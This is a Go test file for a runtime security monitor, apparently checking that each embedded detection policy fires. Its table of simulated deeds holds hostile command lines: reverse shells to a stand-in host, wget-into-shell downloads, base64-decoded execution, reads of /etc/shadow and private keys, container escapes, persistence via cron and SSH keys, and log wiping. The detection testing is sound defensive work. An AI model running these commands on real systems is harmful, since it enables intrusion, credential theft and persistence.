package rules

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sightglass/sightglass/policies"
)

// ownDeeds has what every embedded policy is about. The first deeds of a policy
// do it plainly, the later ones in disguise.
var ownDeeds = []deed{
	// mining.yaml
	{"Crypto miner", anywhere, "as xmrig"},
	{"Crypto miner", anywhere, "as kworker -o stratum+tcp://pool.example.org:3333"},
	{"Connection to a mining pool", anywhere, "connect tcp 203.0.113.7:3333"},

	// escape.yaml
	{"Container reached for the host", inPrivileged, "write /proc/sys/kernel/core_pattern"},
	{"Container reached for the host", inPrivileged, "symlink /proc/sys/kernel/core_pattern $HERE/x | write $HERE/x"},
	{"Container reached for the host", inContainer, "create $HERE/release_agent"},
	{"Container opened a disk or the memory of the host", inPrivileged, "device 7 0 /dev/vdz | read /dev/vdz"},
	{"Container opened a disk or the memory of the host", inPrivileged, "device 7 0 /dev/vdy | symlink /dev/vdy $HERE/x | read $HERE/x"},
	{"Container talks to the container runtime", inContainer, "listen-unix /run/docker.sock | connect-unix /run/docker.sock"},
	{"Container mounted a file system", inPrivileged, "mkdir $HERE/x | mount proc proc $HERE/x | umount $HERE/x"},
	{"Container entered another namespace", inPrivileged, "setns /proc/self/ns/uts"},
	{"Container made a user namespace", inContainer, "run busybox unshare -U true"},
	{"Container looked through another root", inContainer, "read /proc/1/root/etc/passwd"},
	{"Container looked through another root", inPrivileged, "run busybox chroot / /bin/busybox true"},
	{"Kernel module loaded by a container", inPrivileged, "module"},
	{"eBPF program loaded by a container", inPrivileged, "bpf"},
	{"File opened past all directories", inPrivileged, "create /dev/shm/x | handle /dev/shm/x"},
	{"Device node made in a container", inContainer, "device 254 0 $HERE/x"},

	// shells.yaml
	{"Remote shell tool", anywhere, "as nc -e /bin/sh 203.0.113.7 4444"},
	{"Shell opened a network connection", anywhere, "as bash | connect tcp 203.0.113.7:4444"},
	{"Interactive shell without a terminal", anywhere, "as sh -i"},
	{"Interactive shell without a terminal", inContainer, "run busybox sh -c 'sh -i </dev/null; true'"},
	{"Input and output handed to a connection", inContainer, "redirect"},
	{"Remote shell tool", anywhere, "as ncat -ve /bin/sh 203.0.113.7 4444"},
	{"Input and output handed to a connection", outside, "as python3 | redirect"},
	{"Shell fed by an interpreter", anywhere, "as python3 | run sh"},
	{"Shell started by a network service", anywhere, "as nginx | run sh -c true"},
	{"Terminal shell in a container", inContainer, "tty | run sh -c true"},
	{"Terminal made by a script", anywhere, "as python3 -c 'import pty; pty.spawn(1)'"},
	{"Download by a network service", anywhere, "as nginx | as sh | as curl http://192.0.2.9"},

	// persistence.yaml
	{"Library preloaded into every program", anywhere, "create /etc/ld.so.preload | remove /etc/ld.so.preload"},
	{"List of accepted SSH keys changed", anywhere, "create /root/.ssh/authorized_keys"},
	{"List of accepted SSH keys changed", anywhere, "create /home/ada/.ssh/authorized_keys | symlink /home/ada/.ssh/authorized_keys $HERE/x | append $HERE/x"},
	{"Scheduled job changed", anywhere, "create /var/spool/cron/crontabs/root"},
	{"Scheduled job changed", anywhere, "mkdir /etc/cron.d | create /srv/x | copy /srv/x /etc/cron.d/$NAME"},
	{"Service added or changed", anywhere, "create /etc/systemd/system/$NAME.service"},
	{"Service added or changed", anywhere, "mkdir /etc/systemd/system | symlink /etc/systemd/system $HERE/x | create $HERE/x/$NAME.service"},
	{"Profile of a shell changed", anywhere, "append /root/.bashrc"},
	{"Service added or changed", anywhere, "create /usr/lib/udev/rules.d/$NAME.rules"},
	{"Scheduled job set by its own tool", anywhere, "as crontab -"},
	{"Hook of a repository changed", anywhere, "create /root/x/.git/hooks/post-checkout"},

	// kubernetes.yaml
	{"Service account token read by hand", inContainer, "create /run/secrets/kubernetes.io/serviceaccount/token | run cat /run/secrets/kubernetes.io/serviceaccount/token"},
	{"Pod contacted a kubelet", inContainer, "connect tcp 10.1.2.3:10250"},
	{"Pod contacted the store of the cluster", inContainer, "connect tcp 10.1.2.3:2379"},
	{"API server contacted by hand", inContainer, "as curl | connect tcp 10.1.2.3:6443"},
	{"Cluster client run in a pod", inContainer, "as kubectl get secrets"},
	{"Settings of a node changed", anywhere, "create /etc/kubernetes/manifests/$NAME.yaml"},

	// execution.yaml
	{"Program run from memory", anywhere, "memfd program"},
	{"Program that is not in the image", inContainer, "copy /bin/busybox $HERE/true | run $HERE/true"},
	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | try /tmp/$NAME/x -h"},
	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | symlink /tmp/$NAME/x $HERE/x | try $HERE/x -h"},
	{"Program run from a temporary directory", outside, "mkdir /tmp/$NAME | script /tmp/$NAME/x | run /tmp/$NAME/x"},
	{"Program poses as a kernel thread", outside, "run bash -c 'exec -a [kworker/0:3] true'"},
	{"Package manager run in a container", inContainer, "as apk add nmap"},
	{"Program made executable in a container", inContainer, "create /tmp/$NAME | as chmod | chmod 755 /tmp/$NAME"},

	{"Download piped into a shell", outside, "run sh -c 'wget -T 1 -t 1 -qO- http://192.0.2.9/|sh'"},
	{"Download piped into a shell", outside, "run sh -c 'wget -T 1 -t 1 -qO- http://192.0.2.9/|cat|sh'"},
	{"Download piped into a shell", outside, "try bash -c 'bash -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
	{"Download piped into a shell", outside, "run bash -c 'bash <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},

	{"Download piped into a shell", outside, "run bash -c 'python3 <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
	{"Download piped into a shell", outside, "run bash -c 'python3 <(sleep 0.3; wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
	{"Download piped into a shell", outside, "run sh -c '{ sleep 0.3; wget -T 1 -t 1 -qO- http://192.0.2.9/; }|perl'"},
	{"Download piped into a shell", outside, "try bash -c 'python3 -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
	{"Download piped into a shell", outside, "try bash -c 'perl -e \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
	{"Download piped into a shell", outside, "try bash -c 'eval \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/)\"'"},
	{"Download piped into a shell", outside, "try bash -c 'source <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
	{"Download piped into a shell", outside, "try bash -c '. <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
	{"Download piped into a shell", anywhere, "try sh -c 'wget -qO $HERE/x http://192.0.2.1:9/; echo true >$HERE/x; sh $HERE/x'"},
	{"Download piped into a shell", outside, "try bash -c 'cd $HERE; wget -q -t 1 http://192.0.2.1:9/y.py; python3 y.py'"},
	{"Encoded text run by a shell", outside, "run sh -c 'echo dHJ1ZQo=|base64 -d|sh'"},
	{"Encoded text run by a shell", outside, "run bash -c 'bash <(echo dHJ1ZQo=|base64 -d)'"},
	{"Encoded text run by a shell", outside, "run bash -c 'bash -c \"$(echo dHJ1ZQo=|base64 -d)\"'"},

	// logins.yaml
	{"Attack on pkexec or sudoedit", anywhere, `as sudoedit -s \`},
	{"Page faults handled by an ordinary user", outside, "uid 1000 | userfaultfd"},
	{"Unexpected change to root", outside, "login 1000 | setresuid 0"},
	{"Program made to run as its owner", anywhere, "create $HERE/x | chmod 4755 $HERE/x"},
	{"Program made to run as its owner", anywhere, "create $HERE/x | fchmod 4755 $HERE/x"},
	{"SSH server in a container", inContainer, "as sshd -D"},
	{"Login over SSH", outside, "login 1000 | as sshd | as bash -l"},
	{"Change to another user", outside, "login 1000 | as bash | as su -"},
	{"Login at a terminal", outside, "login 1000 | as login | tty | as bash"},
	{"Service account at a terminal", outside, "uid 33 | tty | as sh"},
	{"Account added or changed", outside, "as useradd -o -u 0 x"},
	{"Capabilities given to a program", anywhere, "as setcap cap_setuid+ep /srv/x"},
	{"Capabilities given to a program", anywhere, "create $HERE/x | capable $HERE/x"},

	// credentials.yaml
	{"Secret of the system read", anywhere, "read /etc/shadow"},
	{"Secret of the system read", anywhere, "symlink /etc/shadow $HERE/x | read $HERE/x"},
	{"Secret of the system read", anywhere, "symlink /etc $HERE/x | cd $HERE/x | read ../etc/shadow"},
	{"Private key or cloud credential read", anywhere, "create /root/.ssh/id_ed25519 | read /root/.ssh/id_ed25519"},
	{"Private key or cloud credential read", anywhere, "create /home/ada/.aws/credentials | symlink /home/ada $HERE/x | read $HERE/x/.aws/credentials"},
	{"Credential of the cluster read", anywhere, "create /etc/kubernetes/admin.conf | read /etc/kubernetes/admin.conf"},
	{"Link to a secret made", anywhere, "link /etc/shadow /etc/shadow-$NAME"},
	{"Link to a secret made", anywhere, "symlink /etc/shadow $HERE/x"},
	{"Environment of another process read", anywhere, "read /proc/$PARENT/environ"},
	{"Secret of the system read", outside, "symlink /etc/shadow $HERE/x | run tar -chf $HERE/y $HERE/x"},
	{"Secret of the system read", outside, "run sh -c 'tar -cPf $HERE/y /etc/shadow'"},
	{"Secrets copied by a backup", outside, "run tar -cPf $HERE/y /etc"},
	{"Search for credentials", anywhere, "run find /root -name id_rsa"},

	// evasion.yaml
	{"Shell history deleted", anywhere, "create /root/.bash_history | remove /root/.bash_history"},
	{"Shell history deleted", anywhere, "append /root/.zsh_history | truncate /root/.zsh_history"},
	{"Another process was traced", anywhere, "trace"},
	{"Memory of another process written", anywhere, "poke"},
	{"System log deleted", anywhere, "create /var/log/auth.log"},
	{"Protection switched off", anywhere, "as systemctl stop auditd"},
	{"System log deleted", anywhere, "append /var/log/syslog | cut /var/log/syslog"},
	{"Data wiped", anywhere, "as shred -u /srv/x"},
	{"Memory of another process read", anywhere, "poke"},
	{"Memory of another process read", anywhere, "read /proc/$PARENT/mem"},
	{"Helper of the kernel changed", outside, "write /proc/sys/kernel/core_pattern"},
	{"Disk read past the file system", outside, "device 7 0 /dev/vdz | as cat | read /dev/vdz | remove /dev/vdz"},

	// network.yaml
	{"Outbound connection from a database", anywhere, "as postgres | connect tcp 203.0.113.7:443"},
	{"Metadata service contacted from a container", inContainer, "connect tcp 169.254.169.254:80"},
	{"SSH to an unusual port", anywhere, "as ssh | connect tcp 203.0.113.7:443"},
	{"Tunnel to the outside", anywhere, "as frpc -c x"},
	{"Network scanner", anywhere, "as nmap -sn 192.0.2.0/24"},
	{"Container listens to the network itself", inContainer, "packet"},
	{"Remote copy from a container", inContainer, "as scp x y:"},

	// files.yaml
	{"Rules of logging in changed", anywhere, "append /etc/sudoers"},
	{"Rules of logging in changed", anywhere, "append /etc/passwd | symlink /etc/passwd $HERE/x | append $HERE/x"},
	{"Write below a binary directory", anywhere, "create /usr/local/bin/$NAME"},
	{"Write below a binary directory", anywhere, "create /usr/local/bin/$NAME | rename /usr/local/bin/$NAME /usr/local/bin/$NAME.x"},
	{"Shared library changed", anywhere, "create /usr/local/lib/libx.so.1"},
	{"Boot files changed", inContainer, "create /boot/grub/grub.cfg"},
	{"Write below /etc", anywhere, "create /etc/$NAME"},
	{"Write below /etc", anywhere, "symlink /etc $HERE/x | create $HERE/x/$NAME"},
	{"Write below /etc", anywhere, "symlink /etc $HERE/x | mkdir $HERE/x/$NAME"},
	{"Write below /etc", anywhere, "symlink /etc $HERE/y | symlink y $HERE/x | symlink /srv/x $HERE/x/$NAME"},
	{"Rules of logging in changed", anywhere, "append /etc/passwd | symlink /etc $HERE/x | chmod 666 $HERE/x/passwd"},
	{"Rules of logging in changed", anywhere, "append /etc/passwd | symlink /etc/passwd $HERE/x | chmod 666 $HERE/x"},
	{"Rules of logging in changed", anywhere, "append /etc/group | symlink /etc $HERE/x | cd $HERE | rename x/group x/$NAME"},
	{"Rules of logging in changed", anywhere, "append /etc/gshadow | symlink /etc $HERE/x | remove $HERE/x/gshadow"},
	{"Rules of logging in changed", anywhere, "append /etc/gshadow | symlink /etc $HERE/x | remove $HERE/x/gshadow | remove $HERE/x"},
	{"Rules of logging in changed", anywhere, "append /etc/login.defs | cut /etc/login.defs"},
	{"Rules of logging in changed", anywhere, "append /etc/gshadow- | chown /etc/gshadow- | append /etc/krb5.conf | chown /etc/krb5.conf"},
	{"Something mounted over critical files", outside, "append /etc/passwd | create /srv/p | mount bind /srv/p /etc/passwd | umount /etc/passwd"},
	{"Software installed past the package manager", outside, "as make | run sh -c 'echo >/usr/local/bin/$NAME'"},
	{"Software installed past the package manager", outside, "as make | run sh -c 'echo >/usr/local/lib/$NAME.so.1'"},
	{"List of accepted SSH keys changed", anywhere, "create /home/ada/.ssh/y | symlink /home/ada $HERE/x | rename $HERE/x/.ssh/y $HERE/x/.ssh/authorized_keys"},
}

// notPlayed are the policies that no test can provoke, and why.
var notPlayed = map[string]string{
	"Critical file changed":         "the stages have copies of the host's directories; TestIntegrity changes files of the host",
	"Calls hidden from observation": "the actor lies where programs are installed",
	"Memory of the machine read":    "many kernels refuse it to everybody",
	"Kernel module loaded by hand":  "it fires when a module was really loaded",
	privilegedStart:                 "a stage is its container's first program; TestSilence looks at it",
}

// TestOwnPolicies: every embedded policy fires on what it describes, through
// symbolic links too.
func TestOwnPolicies(t *testing.T) {
	binary := agentBinary(t)
	requireEveryRule(t, ownFiles(t), ownDeeds, notPlayed)
	w := watch(t, binary)
	w.play(t, newTheater(t), ownDeeds)
}

// ownFiles are the embedded policies as files, in their order.
func ownFiles(t *testing.T) []string {
	t.Helper()
	files, err := policies.Files()
	require.NoError(t, err)
	var out []string
	dir := t.TempDir()
	for _, f := range files {
		path := filepath.Join(dir, f.Name)
		require.NoError(t, os.WriteFile(path, f.Content, 0o600))
		out = append(out, path)
	}
	return out
}
